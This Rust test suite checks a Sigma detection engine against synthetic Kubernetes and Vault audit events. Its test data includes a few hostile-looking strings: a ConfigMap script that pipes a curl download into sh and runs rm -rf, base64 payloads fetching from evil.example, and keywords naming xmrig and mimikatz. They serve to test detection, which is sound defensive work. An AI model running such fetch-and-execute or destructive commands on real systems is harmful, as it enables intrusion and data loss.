//! Behaviour of the Sigma engine through its public API: rules compiled with
//! `RuleSet::compile`/`RuleSet::load`, evaluated by `Engine` over batches decoded from
//! realistic Kubernetes and Vault/OpenBao audit lines (the same decoder ingest uses, so
//! rules see exactly what production sees, redaction included).

use std::path::{Path, PathBuf};
use std::sync::Arc;

use auditwatch::decode::Format;
use auditwatch::detect::fields::FieldMap;
use auditwatch::detect::sigma::{self, DiagSeverity, Diagnostic};
use auditwatch::detect::tooling::decode_to_batch;
use auditwatch::detect::{Alert, Engine, RuleSet};
use base64::Engine as _;
use datafusion::arrow::array::{AsArray, RecordBatch};
use datafusion::arrow::compute::concat_batches;
use serde_json::{Value, json};

// ---------------------------------------------------------------- event builders

/// Deep-merges `patch` into `base`; a JSON null in the patch removes the key.
fn merge(base: &mut Value, patch: Value) {
    match (base, patch) {
        (Value::Object(b), Value::Object(p)) => {
            for (k, v) in p {
                if v.is_null() {
                    b.remove(&k);
                } else if let Some(existing) = b.get_mut(&k) {
                    merge(existing, v);
                } else {
                    b.insert(k, v);
                }
            }
        }
        (b, p) => *b = p,
    }
}

/// A Kubernetes audit event (`audit.k8s.io/v1`, ResponseComplete) as an apiserver writes
/// it: alice reads the secret `default/db` with kubectl at 2026-01-10 12:00:00Z.
fn k8s(id: &str, patch: Value) -> Value {
    let mut e = json!({
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "Metadata",
        "auditID": id,
        "stage": "ResponseComplete",
        "requestURI": "/api/v1/namespaces/default/secrets/db",
        "verb": "get",
        "user": {
            "username": "alice@example.com",
            "uid": "0c6e7d2a-9f1b-4c55-8c1e-3f0b2a9d1e11",
            "groups": ["devs", "system:authenticated"]
        },
        "sourceIPs": ["10.1.2.3"],
        "userAgent": "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
        "objectRef": {"resource": "secrets", "namespace": "default", "name": "db", "apiVersion": "v1"},
        "responseStatus": {"metadata": {}, "code": 200},
        "requestReceivedTimestamp": "2026-01-10T12:00:00.000000Z",
        "stageTimestamp": "2026-01-10T12:00:00.012000Z",
        "annotations": {
            "authorization.k8s.io/decision": "allow",
            "authorization.k8s.io/reason": "RBAC: allowed by ClusterRoleBinding \"devs\" of ClusterRole \"edit\" to Group \"devs\""
        }
    });
    merge(&mut e, patch);
    e
}

/// A timestamp on 2026-01-10 at `hh:mm:ss`.
fn at(hms: &str) -> Value {
    json!(format!("2026-01-10T{hms}.000000Z"))
}

/// A pod creation at RequestResponse level with the given pod spec.
fn pod_create(id: &str, ns: &str, spec: Value) -> Value {
    k8s(
        id,
        json!({
            "level": "RequestResponse",
            "verb": "create",
            "requestURI": format!("/api/v1/namespaces/{ns}/pods"),
            "objectRef": {"resource": "pods", "namespace": ns, "name": null},
            "responseStatus": {"code": 201},
            "requestObject": {"kind": "Pod", "apiVersion": "v1",
                "metadata": {"name": "web-1", "namespace": ns, "labels": {"app": "web-1"}},
                "spec": spec}
        }),
    )
}

/// A Vault audit response entry: the Kubernetes-auth token of `payments/api` reads
/// `secret/data/payments/prod/db`; values are HMAC'd as Vault writes them.
fn vault(id: &str, patch: Value) -> Value {
    let h = |s: &str| format!("hmac-sha256:{:0>64}", hex(s));
    let mut e = json!({
        "time": "2026-01-10T12:00:00.000000Z",
        "type": "response",
        "auth": {
            "client_token": h("token"),
            "accessor": h("accessor"),
            "display_name": "kubernetes-payments-api",
            "policies": ["default", "payments-read"],
            "token_policies": ["default", "payments-read"],
            "metadata": {
                "role": "payments",
                "service_account_name": "api",
                "service_account_namespace": "payments",
                "service_account_uid": "7d1c2b3a-0000-4000-8000-000000000001"
            },
            "entity_id": "4e1f2a3b-5c6d-7e8f-9a0b-1c2d3e4f5a6b",
            "token_type": "service",
            "token_ttl": 3600
        },
        "request": {
            "id": id,
            "operation": "read",
            "mount_type": "kv",
            "client_token": h("token"),
            "client_token_accessor": h("accessor"),
            "namespace": {"id": "root"},
            "path": "secret/data/payments/prod/db",
            "remote_address": "10.20.30.40",
            "remote_port": 41234
        },
        "response": {
            "mount_type": "kv",
            "data": {"data": {"password": h("pw")}, "metadata": {"version": 3}}
        }
    });
    merge(&mut e, patch);
    e
}

fn hex(s: &str) -> String {
    s.bytes().map(|b| format!("{b:02x}")).collect()
}

fn lines(events: &[Value]) -> String {
    events.iter().map(|e| format!("{e}\n")).collect()
}

fn batch_of(events: &[Value], format: Format) -> RecordBatch {
    let (b, quarantined) = decode_to_batch(lines(events).as_bytes(), format);
    assert_eq!(quarantined, 0, "test events must decode");
    b.expect("rows")
}

fn k8s_batch(events: &[Value]) -> RecordBatch {
    batch_of(events, Format::Kubernetes)
}

fn vault_batch(events: &[Value]) -> RecordBatch {
    batch_of(events, Format::Vault)
}

fn concat(batches: &[RecordBatch]) -> RecordBatch {
    concat_batches(&batches[0].schema(), batches).unwrap()
}

fn column(batch: &RecordBatch, name: &str, row: usize) -> String {
    batch
        .column_by_name(name)
        .unwrap()
        .as_string::<i32>()
        .value(row)
        .to_string()
}

// ---------------------------------------------------------------- rule helpers

/// Removes the common leading indentation of a YAML block written inside a test.
fn dedent(s: &str) -> String {
    let min = s
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| l.len() - l.trim_start().len())
        .min()
        .unwrap_or(0);
    s.lines()
        .map(|l| if l.len() >= min { &l[min..] } else { l.trim() })
        .collect::<Vec<_>>()
        .join("\n")
}

/// Parses and compiles rule text (one or more documents) as if it were `file`.
fn compile_at(file: &str, text: &str) -> RuleSet {
    let mut diags = Vec::new();
    let docs = sigma::parse_file(Path::new(file), &dedent(text), &mut diags);
    RuleSet::compile(docs, &FieldMap::builtin(), diags)
}

/// Compiles rules that must be free of errors.
fn compile(text: &str) -> Arc<RuleSet> {
    let rs = compile_at("test.yml", text);
    let errors: Vec<String> = rs.errors().map(ToString::to_string).collect();
    assert!(errors.is_empty(), "unexpected errors: {errors:#?}");
    Arc::new(rs)
}

/// A single rule for `product` with the given `detection:` block.
fn rule_text(product: &str, detection: &str) -> String {
    let det: String = dedent(detection)
        .lines()
        .map(|l| format!("    {l}\n"))
        .collect();
    format!(
        "title: rule under test\nid: r\nlogsource:\n    product: {product}\n    service: audit\ndetection:\n{det}"
    )
}

/// Event ids (in row order) of the rows that rule `id` matches.
fn matched(rs: &Arc<RuleSet>, batch: &RecordBatch, id: &str) -> Vec<String> {
    let i = rs
        .rules
        .iter()
        .position(|r| r.meta.id == id)
        .unwrap_or_else(|| panic!("no rule {id}"));
    let m = Engine::new(rs.clone()).matches(batch);
    m[i].set_indices()
        .map(|r| column(batch, "event_id", r))
        .collect()
}

/// Event ids a one-rule Kubernetes detection matches among `events`.
fn k8s_hits(detection: &str, events: &[Value]) -> Vec<String> {
    let rs = compile(&rule_text("kubernetes", detection));
    matched(&rs, &k8s_batch(events), "r")
}

fn vault_hits(detection: &str, events: &[Value]) -> Vec<String> {
    let rs = compile(&rule_text("vault", detection));
    matched(&rs, &vault_batch(events), "r")
}

fn evaluate(rs: &Arc<RuleSet>, batches: &[RecordBatch]) -> Vec<Alert> {
    let mut e = Engine::new(rs.clone());
    batches.iter().flat_map(|b| e.evaluate(b)).collect()
}

fn ids(alerts: &[Alert], rule: &str) -> Vec<Vec<String>> {
    alerts
        .iter()
        .filter(|a| a.rule_id == rule)
        .map(|a| a.event_ids.clone())
        .collect()
}

fn v(ids: &[&str]) -> Vec<String> {
    ids.iter().map(|s| s.to_string()).collect()
}

// ---------------------------------------------------------------- value matching

#[test]
fn matching_is_case_insensitive_unless_cased() {
    let events = [
        k8s("lower", json!({})),
        k8s(
            "upper",
            json!({"verb": "GET", "userAgent": "Kubectl/v1.29.2", "user": {"uid": "ABC-1"}}),
        ),
    ];
    // column with a value index (verb), coalesced column (user.username), raw path (user.uid)
    assert_eq!(
        k8s_hits("sel: {verb: Get}\ncondition: sel", &events),
        v(&["lower", "upper"])
    );
    assert_eq!(
        k8s_hits("sel: {verb|cased: get}\ncondition: sel", &events),
        v(&["lower"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {user.username: ALICE@EXAMPLE.COM}\ncondition: sel",
            &events
        ),
        v(&["lower", "upper"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {userAgent|cased|startswith: Kubectl}\ncondition: sel",
            &events
        ),
        v(&["upper"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {userAgent|startswith: KUBECTL}\ncondition: sel",
            &events
        ),
        v(&["lower", "upper"])
    );
    assert_eq!(
        k8s_hits("sel: {user.uid: abc-1}\ncondition: sel", &events),
        v(&["upper"])
    );
    assert!(k8s_hits("sel: {user.uid|cased: abc-1}\ncondition: sel", &events).is_empty());
}

#[test]
fn wildcards_and_escapes() {
    let events = [
        k8s("db", json!({})),
        k8s(
            "db-1",
            json!({"objectRef": {"name": "db-1"}, "userAgent": "scanner*bot/1.0 50%_off"}),
        ),
        k8s(
            "db-12",
            json!({"objectRef": {"name": "db-12"}, "userAgent": "scannerXbot/1.0 50XYoff"}),
        ),
    ];
    assert_eq!(
        k8s_hits("sel: {objectRef.name: 'db-*'}\ncondition: sel", &events),
        v(&["db-1", "db-12"])
    );
    assert_eq!(
        k8s_hits("sel: {objectRef.name: 'db-?'}\ncondition: sel", &events),
        v(&["db-1"])
    );
    assert_eq!(
        k8s_hits("sel: {objectRef.name: 'D?'}\ncondition: sel", &events),
        v(&["db"])
    );
    // an escaped star is a literal star
    assert_eq!(
        k8s_hits(
            "sel: {userAgent|startswith: 'scanner\\*bot'}\ncondition: sel",
            &events
        ),
        v(&["db-1"])
    );
    // SQL LIKE metacharacters in a Sigma value are literals
    assert_eq!(
        k8s_hits(
            "sel: {userAgent|endswith: '50%_off'}\ncondition: sel",
            &events
        ),
        v(&["db-1"])
    );
    // the same through the raw path (row-wise glob instead of Arrow's kernel)
    assert_eq!(
        k8s_hits("sel: {objectRef.apiVersion: 'V?'}\ncondition: sel", &events),
        v(&["db", "db-1", "db-12"])
    );
    assert_eq!(
        k8s_hits("sel: {userAgent: '*'}\ncondition: sel", &events).len(),
        3
    );
}

#[test]
fn contains_startswith_endswith_all() {
    let events = [
        k8s("kubectl", json!({})),
        k8s("curl", json!({"userAgent": "curl/8.5.0"})),
    ];
    assert_eq!(
        k8s_hits(
            "sel: {userAgent|contains: LINUX/amd64}\ncondition: sel",
            &events
        ),
        v(&["kubectl"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {userAgent|endswith: '4b8e819'}\ncondition: sel",
            &events
        ),
        v(&["kubectl"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {userAgent|startswith: [curl/, wget/]}\ncondition: sel",
            &events
        ),
        v(&["curl"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {userAgent|contains|all: [kubectl, linux]}\ncondition: sel",
            &events
        ),
        v(&["kubectl"])
    );
    assert!(
        k8s_hits(
            "sel: {userAgent|contains|all: [kubectl, windows]}\ncondition: sel",
            &events
        )
        .is_empty()
    );
    // raw path with contains
    assert_eq!(
        k8s_hits(
            "sel: {annotations.authorization.k8s.io/reason|contains: 'ClusterRole \"edit\"'}\ncondition: sel",
            &events
        ),
        v(&["kubectl", "curl"])
    );
}

#[test]
fn regular_expressions_and_their_flags() {
    let script = "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\nrm -rf /tmp/x\n";
    let events = [
        k8s("secret", json!({})),
        k8s(
            "cm",
            json!({
                "level": "RequestResponse", "verb": "create",
                "requestURI": "/api/v1/namespaces/default/configmaps",
                "objectRef": {"resource": "configmaps", "name": "boot"},
                "requestObject": {"kind": "ConfigMap", "apiVersion": "v1",
                    "metadata": {"name": "boot", "namespace": "default"},
                    "data": {"script": script}}
            }),
        ),
    ];
    assert_eq!(
        k8s_hits(
            "sel: {requestURI|re: '^/api/v1/namespaces/[a-z]+/secrets/'}\ncondition: sel",
            &events
        ),
        v(&["secret"])
    );
    // case-sensitive by default, `i` makes it insensitive
    assert!(k8s_hits("sel: {requestURI|re: 'SECRETS'}\ncondition: sel", &events).is_empty());
    assert_eq!(
        k8s_hits("sel: {requestURI|re|i: 'SECRETS'}\ncondition: sel", &events),
        v(&["secret"])
    );
    // `m`: ^ and $ at line boundaries (raw path of a multi-line value)
    assert!(
        k8s_hits(
            "sel: {requestObject.data.script|re: '^rm -rf'}\ncondition: sel",
            &events
        )
        .is_empty()
    );
    assert_eq!(
        k8s_hits(
            "sel: {requestObject.data.script|re|m: '^rm -rf'}\ncondition: sel",
            &events
        ),
        v(&["cm"])
    );
    // `s`: the dot matches newlines
    assert!(
        k8s_hits(
            "sel: {requestObject.data.script|re: 'sh.curl'}\ncondition: sel",
            &events
        )
        .is_empty()
    );
    assert_eq!(
        k8s_hits(
            "sel: {requestObject.data.script|re|s: 'sh.curl'}\ncondition: sel",
            &events
        ),
        v(&["cm"])
    );
}

#[test]
fn cidr_on_columns_and_raw_paths() {
    let events = [
        k8s("v4", json!({})),
        k8s("v6", json!({"sourceIPs": ["2001:db8:0:1::42"]})),
        k8s(
            "proxied",
            json!({"sourceIPs": ["172.16.0.9", "192.168.7.7"]}),
        ),
    ];
    assert_eq!(
        k8s_hits("sel: {src_ip|cidr: 10.0.0.0/8}\ncondition: sel", &events),
        v(&["v4"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {src_ip|cidr: '2001:db8::/32'}\ncondition: sel",
            &events
        ),
        v(&["v6"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {src_ip|cidr: ['10.0.0.0/8', '2001:db8::/32']}\ncondition: sel",
            &events
        ),
        v(&["v4", "v6"])
    );
    // sourceIPs is a raw list: any element in range
    assert_eq!(
        k8s_hits(
            "sel: {sourceIPs|cidr: 192.168.0.0/16}\ncondition: sel",
            &events
        ),
        v(&["proxied"])
    );
    // Vault's remote_address maps to src_ip
    let vault_events = [
        vault("in", json!({})),
        vault(
            "out",
            json!({"request": {"remote_address": "198.51.100.7"}}),
        ),
    ];
    assert_eq!(
        vault_hits(
            "sel: {request.remote_address|cidr: 10.0.0.0/8}\ncondition: sel",
            &vault_events
        ),
        v(&["in"])
    );
}

#[test]
fn base64_and_base64offset() {
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    let cm = |id: &str, payload: &str| {
        k8s(
            id,
            json!({
                "level": "RequestResponse", "verb": "create",
                "objectRef": {"resource": "configmaps", "name": id},
                "requestObject": {"kind": "ConfigMap", "apiVersion": "v1",
                    "metadata": {"name": id}, "data": {"payload": payload}}
            }),
        )
    };
    let events = [
        cm("exact", &b64("curl http://evil.example")),
        cm("offset1", &b64("x;curl http://evil.example|sh")),
        cm("offset2", &b64("ab;curl http://evil.example")),
        cm("plain", "curl http://evil.example"),
    ];
    assert_eq!(
        k8s_hits(
            "sel: {requestObject.data.payload|base64: 'curl http://evil.example'}\ncondition: sel",
            &events
        ),
        v(&["exact"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {requestObject.data.payload|base64offset|contains: 'http://evil.example'}\ncondition: sel",
            &events
        ),
        v(&["exact", "offset1", "offset2"])
    );
}

#[test]
fn exists_on_columns_and_raw_paths() {
    let events = [
        k8s("plain", json!({})),
        k8s(
            "impersonated",
            json!({"impersonatedUser": {"username": "system:serviceaccount:ci:deployer"}}),
        ),
        pod_create(
            "hostnet",
            "default",
            json!({"hostNetwork": true, "containers": [{"name": "a", "image": "nginx"}]}),
        ),
        // present but null: `exists` checks presence only
        pod_create(
            "nullnode",
            "default",
            json!({"nodeName": Value::Null, "containers": [{"name": "a", "image": "nginx"}]}),
        ),
    ];
    assert_eq!(
        k8s_hits("sel: {impersonator|exists: true}\ncondition: sel", &events),
        v(&["impersonated"])
    );
    assert_eq!(
        k8s_hits("sel: {impersonator|exists: false}\ncondition: sel", &events),
        v(&["plain", "hostnet", "nullnode"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {impersonatedUser|exists: true}\ncondition: sel",
            &events
        ),
        v(&["impersonated"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {requestObject.spec.hostNetwork|exists: true}\ncondition: sel",
            &events
        ),
        v(&["hostnet"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {requestObject.spec.hostNetwork|exists: false}\ncondition: sel",
            &events
        ),
        v(&["plain", "impersonated", "nullnode"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {requestObject.spec.nodeName|exists: true}\ncondition: sel",
            &events
        ),
        v(&["nullnode"])
    );
}

#[test]
fn null_values() {
    let events = [
        k8s("core", json!({})),
        k8s(
            "apps",
            json!({"objectRef": {"resource": "deployments", "apiGroup": "apps", "name": "web"}}),
        ),
        pod_create(
            "nullnode",
            "default",
            json!({"nodeName": Value::Null, "containers": []}),
        ),
    ];
    // api_group is NULL for the core group
    assert_eq!(
        k8s_hits("sel: {objectRef.apiGroup: null}\ncondition: sel", &events),
        v(&["core", "nullnode"])
    );
    // raw: missing or JSON null
    assert_eq!(
        k8s_hits(
            "sel: {requestObject.spec.nodeName: null}\ncondition: sel",
            &events
        ),
        v(&["core", "apps", "nullnode"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {requestObject.spec.nodeName: null}\nnot_null: {requestObject.spec.nodeName|exists: true}\ncondition: sel and not_null",
            &events
        ),
        v(&["nullnode"])
    );
}

#[test]
fn numeric_comparisons_on_columns_and_raw_numbers() {
    let events = [
        k8s("ok", json!({})),
        k8s("forbidden", json!({"responseStatus": {"code": 403}})),
        k8s("error", json!({"responseStatus": {"code": 503}})),
    ];
    assert_eq!(
        k8s_hits(
            "sel:\n  responseStatus.code|gte: 400\n  responseStatus.code|lt: 500\ncondition: sel",
            &events
        ),
        v(&["forbidden"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {responseStatus.code|gt: 403}\ncondition: sel",
            &events
        ),
        v(&["error"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {responseStatus.code|lte: 403}\ncondition: sel",
            &events
        ),
        v(&["ok", "forbidden"])
    );
    // a plain number equals, quoted or not
    assert_eq!(
        k8s_hits(
            "sel: {responseStatus.code: [401, '403']}\ncondition: sel",
            &events
        ),
        v(&["forbidden"])
    );
    // raw numbers
    let ttl = [
        vault("short", json!({})),
        vault("long", json!({"auth": {"token_ttl": 2_764_800}})),
    ];
    assert_eq!(
        vault_hits("sel: {auth.token_ttl|gt: 86400}\ncondition: sel", &ttl),
        v(&["long"])
    );
    assert_eq!(
        vault_hits("sel: {auth.token_ttl|lte: 3600}\ncondition: sel", &ttl),
        v(&["short"])
    );
}

#[test]
fn neq() {
    let events = [
        k8s("get", json!({})),
        k8s("list", json!({"verb": "list"})),
        k8s(
            "system",
            json!({"verb": "list", "objectRef": {"namespace": "kube-system"}}),
        ),
    ];
    assert_eq!(
        k8s_hits("sel: {verb|neq: get}\ncondition: sel", &events),
        v(&["list", "system"])
    );
    // different from every listed value
    assert_eq!(
        k8s_hits(
            "sel: {objectRef.namespace|neq: [kube-system, kube-public]}\ncondition: sel",
            &events
        ),
        v(&["get", "list"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {responseStatus.code|neq: 200}\ncondition: sel",
            &events
        ),
        Vec::<String>::new()
    );
}

#[test]
fn field_references() {
    let sa = "system:serviceaccount:ci:deployer";
    let events = [
        // a service account reading its own token secret (name is a suffix of the actor)
        k8s(
            "own",
            json!({"user": {"username": sa, "groups": ["system:serviceaccounts"]},
                   "objectRef": {"namespace": "ci", "name": "deployer"}}),
        ),
        k8s(
            "other",
            json!({"user": {"username": sa, "groups": ["system:serviceaccounts"]},
                   "objectRef": {"namespace": "ci", "name": "registry"}}),
        ),
        // alice impersonating herself; and alice impersonating bob
        k8s(
            "self",
            json!({"impersonatedUser": {"username": "alice@example.com"}}),
        ),
        k8s(
            "bob",
            json!({"impersonatedUser": {"username": "bob@example.com"}}),
        ),
        // a request body naming another namespace than the URL (column vs raw)
        pod_create("mismatch", "default", json!({"containers": []})),
    ];
    let mut mismatch = events[4].clone();
    mismatch["requestObject"]["metadata"]["namespace"] = json!("kube-system");
    let mut events = events.to_vec();
    events[4] = mismatch;
    events.push(pod_create("match", "default", json!({"containers": []})));

    // column vs column, row-wise
    assert_eq!(
        k8s_hits(
            "sel: {actor|fieldref|endswith: objectRef.name}\ncondition: sel",
            &events
        ),
        v(&["own"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {actor|fieldref: impersonator}\ncondition: sel",
            &events
        ),
        v(&["self"])
    );
    // raw path vs column
    assert_eq!(
        k8s_hits(
            "sel: {impersonatedUser.username|fieldref: impersonator}\ncondition: sel",
            &events
        ),
        v(&["self"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {requestObject.metadata.namespace|fieldref: objectRef.namespace}\ncondition: sel",
            &events
        ),
        v(&["match"])
    );
    assert_eq!(
        k8s_hits(
            "sel:\n  verb: create\n  requestObject.metadata.namespace|fieldref|neq: objectRef.namespace\ncondition: sel",
            &events
        ),
        v(&["mismatch"])
    );
}

#[test]
fn time_modifiers() {
    let events = [
        k8s("night", json!({"requestReceivedTimestamp": at("03:12:00")})),
        k8s("noon", json!({})),
        k8s("late", json!({"requestReceivedTimestamp": at("23:59:59")})),
    ];
    assert_eq!(
        k8s_hits("sel: {time|hour|lt: 6}\ncondition: sel", &events),
        v(&["night"])
    );
    assert_eq!(
        k8s_hits("sel: {time|hour: [12, 23]}\ncondition: sel", &events),
        v(&["noon", "late"])
    );
    assert_eq!(
        k8s_hits("sel: {time|minute|gte: 30}\ncondition: sel", &events),
        v(&["late"])
    );
    assert_eq!(
        k8s_hits("sel: {time|day: 10}\ncondition: sel", &events).len(),
        3
    );
    assert_eq!(
        k8s_hits("sel: {time|month|neq: 1}\ncondition: sel", &events).len(),
        0
    );
    assert_eq!(
        k8s_hits("sel: {time|year: 2026}\ncondition: sel", &events).len(),
        3
    );
}

#[test]
fn list_of_maps_and_keywords() {
    let events = [
        k8s("read", json!({})),
        k8s("delete", json!({"verb": "delete"})),
        k8s(
            "exec",
            json!({"verb": "create", "stage": "ResponseStarted", "responseStatus": {"code": 101},
                   "objectRef": {"resource": "pods", "name": "web-1", "subresource": "exec"},
                   "requestURI": "/api/v1/namespaces/default/pods/web-1/exec?command=xmrig&container=web"}),
        ),
    ];
    assert_eq!(
        k8s_hits(
            "sel:\n  - {verb: delete, objectRef.resource: secrets}\n  - {verb: create, objectRef.subresource: exec}\ncondition: sel",
            &events
        ),
        v(&["delete", "exec"])
    );
    // keywords: full text of the (redacted) raw event, case-insensitive, any of them
    assert_eq!(
        k8s_hits("keywords: [XMRIG, mimikatz]\ncondition: keywords", &events),
        v(&["exec"])
    );
    assert_eq!(
        k8s_hits(
            "keywords: ['command=*&container']\ncondition: keywords",
            &events
        ),
        v(&["exec"])
    );
}

#[test]
fn conditions_not_parentheses_of_and_them() {
    let events = [
        k8s("get", json!({})),
        k8s("list", json!({"verb": "list"})),
        k8s(
            "sys",
            json!({"verb": "list", "objectRef": {"namespace": "kube-system"}}),
        ),
        k8s(
            "cm",
            json!({"verb": "list", "objectRef": {"resource": "configmaps"}}),
        ),
    ];
    let det = |cond: &str| {
        format!(
            "selection_get: {{verb: get}}\nselection_list: {{verb: list}}\nsecrets: {{objectRef.resource: secrets}}\n_system: {{objectRef.namespace: kube-system}}\ncondition: {cond}"
        )
    };
    let hits = |cond: &str| k8s_hits(&det(cond), &events);
    assert_eq!(hits("selection_list and not secrets"), v(&["cm"]));
    assert_eq!(hits("not (selection_get or _system)"), v(&["list", "cm"]));
    assert_eq!(
        hits("secrets and not selection_get and not _system"),
        v(&["list"])
    );
    assert_eq!(
        hits("1 of selection_* and secrets"),
        v(&["get", "list", "sys"])
    );
    assert_eq!(hits("all of selection_*"), Vec::<String>::new());
    assert_eq!(
        hits("1 of selection_* and not 1 of _*"),
        v(&["get", "list", "cm"])
    );
    // `them` leaves out `_system`: all of them = list secrets anywhere
    assert_eq!(
        k8s_hits(
            "sel_list: {verb: list}\nsel_secrets: {objectRef.resource: secrets}\n_system: {objectRef.namespace: kube-system}\ncondition: all of them",
            &events
        ),
        v(&["list", "sys"])
    );
    // and `1 of them` is not satisfied by `_system` alone
    assert_eq!(
        k8s_hits(
            "sel_exec: {objectRef.subresource: exec}\n_system: {objectRef.namespace: kube-system}\ncondition: 1 of them",
            &events
        ),
        Vec::<String>::new()
    );
    // precedence: not > and > or
    assert_eq!(
        hits("selection_get or selection_list and _system"),
        v(&["get", "sys"])
    );
}

#[test]
fn global_filters_by_id_and_by_name() {
    let rs = compile(
        r#"
        title: Secret listed
        id: 0a3c7e1e-1111-4b8e-9c0d-000000000001
        name: secret_listed
        logsource: {product: kubernetes, service: audit}
        detection:
            sel: {verb: list, objectRef.resource: secrets}
            condition: sel
        ---
        title: Secret deleted
        id: 0a3c7e1e-1111-4b8e-9c0d-000000000002
        name: secret_deleted
        logsource: {product: kubernetes, service: audit}
        detection:
            sel: {verb: delete, objectRef.resource: secrets}
            condition: sel
        ---
        title: Controllers are expected
        id: 0a3c7e1e-1111-4b8e-9c0d-0000000000f1
        logsource: {product: kubernetes, service: audit}
        filter:
            rules:
                - 0a3c7e1e-1111-4b8e-9c0d-000000000001
            selection:
                user.username|startswith: 'system:serviceaccount:kube-system:'
            condition: selection
        ---
        title: The backup job deletes secrets
        id: 0a3c7e1e-1111-4b8e-9c0d-0000000000f2
        logsource: {product: kubernetes, service: audit}
        filter:
            rules: [secret_deleted]
            selection:
                user.username: 'system:serviceaccount:backup:velero'
            condition: selection
        "#,
    );
    let ctrl = json!({"username": "system:serviceaccount:kube-system:namespace-controller"});
    let velero = json!({"username": "system:serviceaccount:backup:velero"});
    let batch = k8s_batch(&[
        k8s("list-alice", json!({"verb": "list"})),
        k8s("list-ctrl", json!({"verb": "list", "user": ctrl.clone()})),
        k8s(
            "list-velero",
            json!({"verb": "list", "user": velero.clone()}),
        ),
        k8s("del-alice", json!({"verb": "delete"})),
        k8s("del-velero", json!({"verb": "delete", "user": velero})),
        k8s("del-ctrl", json!({"verb": "delete", "user": ctrl})),
    ]);
    assert_eq!(
        matched(&rs, &batch, "0a3c7e1e-1111-4b8e-9c0d-000000000001"),
        v(&["list-alice", "list-velero"])
    );
    assert_eq!(
        matched(&rs, &batch, "0a3c7e1e-1111-4b8e-9c0d-000000000002"),
        v(&["del-alice", "del-ctrl"])
    );
}

#[test]
fn logsource_product_routes_rows() {
    let rules = |product: &str| {
        format!(
            "title: {product}\nid: {product}\nlogsource: {{product: {product}, service: audit}}\ndetection:\n    sel: {{actor: '*'}}\n    condition: sel\n"
        )
    };
    let text = [
        rules("kubernetes"),
        rules("vault"),
        rules("openbao"),
        "title: any\nid: any\nlogsource: {service: audit}\ndetection:\n    sel: {actor: '*'}\n    condition: sel\n"
            .to_string(),
        rules("windows"),
    ]
    .join("---\n");
    let rs = Arc::new(compile_at("routing.yml", &text));
    assert!(
        rs.diagnostics
            .iter()
            .any(|d| d.severity == DiagSeverity::Warning && d.message.contains("windows")),
        "{:?}",
        rs.diagnostics
    );
    let batch = concat(&[
        k8s_batch(&[k8s("k", json!({}))]),
        vault_batch(&[vault("v", json!({}))]),
        batch_of(&[vault("o", json!({}))], Format::OpenBao),
    ]);
    assert_eq!(column(&batch, "source", 2), "openbao");
    assert_eq!(matched(&rs, &batch, "kubernetes"), v(&["k"]));
    assert_eq!(matched(&rs, &batch, "vault"), v(&["v", "o"]));
    assert_eq!(matched(&rs, &batch, "openbao"), v(&["v", "o"]));
    assert_eq!(matched(&rs, &batch, "any"), v(&["k", "v", "o"]));
    assert!(matched(&rs, &batch, "windows").is_empty());
}

#[test]
fn list_columns_and_raw_lists() {
    let events = [
        k8s("dev", json!({})),
        k8s(
            "admin",
            json!({"user": {"username": "root-admin", "groups": ["system:masters", "system:authenticated"]}}),
        ),
    ];
    assert_eq!(
        k8s_hits("sel: {actor_groups: DEVS}\ncondition: sel", &events),
        v(&["dev"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {actor_groups|startswith: 'system:m'}\ncondition: sel",
            &events
        ),
        v(&["admin"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {user.groups|contains: masters}\ncondition: sel",
            &events
        ),
        v(&["admin"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {user.groups: 'system:authenticated'}\ncondition: sel",
            &events
        ),
        v(&["dev", "admin"])
    );
    let vault_events = [
        vault("reader", json!({})),
        vault(
            "root",
            json!({"auth": {"policies": ["root"], "token_policies": ["root"], "display_name": "root", "metadata": null}}),
        ),
    ];
    assert_eq!(
        vault_hits("sel: {auth.policies: root}\ncondition: sel", &vault_events),
        v(&["root"])
    );
    assert_eq!(
        vault_hits(
            "sel: {policies|endswith: '-read'}\ncondition: sel",
            &vault_events
        ),
        v(&["reader"])
    );
    assert_eq!(
        vault_hits(
            "sel: {auth.token_policies: default}\ncondition: sel",
            &vault_events
        ),
        v(&["reader"])
    );
}

#[test]
fn arrays_in_raw_paths_and_dotted_keys() {
    let events = [
        pod_create(
            "second-privileged",
            "default",
            json!({"containers": [
                {"name": "app", "image": "nginx:1.25", "securityContext": {"privileged": false}},
                {"name": "sidecar", "image": "busybox", "securityContext": {"privileged": true}}]}),
        ),
        pod_create(
            "unprivileged",
            "default",
            json!({"containers": [{"name": "app", "image": "nginx:1.25", "securityContext": {"privileged": false}}]}),
        ),
        k8s(
            "forbidden",
            json!({"responseStatus": {"code": 403},
                   "annotations": {"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": ""}}),
        ),
    ];
    assert_eq!(
        k8s_hits(
            "sel: {requestObject.spec.containers.securityContext.privileged: true}\ncondition: sel",
            &events
        ),
        v(&["second-privileged"])
    );
    // the Falco/SigmaHQ shorthand from fields.yml
    assert_eq!(
        k8s_hits("sel: {privileged: 'true'}\ncondition: sel", &events),
        v(&["second-privileged"])
    );
    assert_eq!(
        k8s_hits(
